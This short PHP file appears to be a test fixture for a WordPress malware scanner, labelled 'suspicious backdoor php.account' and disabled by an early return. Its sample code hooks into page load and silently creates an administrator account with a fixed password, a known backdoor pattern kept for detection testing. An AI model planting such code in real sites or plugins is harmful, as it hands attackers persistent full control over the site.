<?php return; // want: suspicious backdoor php.account
add_action('init', 'helper_make');
function helper_make()
{
	$id = wp_create_user('helper', 'a password for all', 'helper@example.com');
	$user = new WP_User($id);
	$user->set_role('administrator');
}
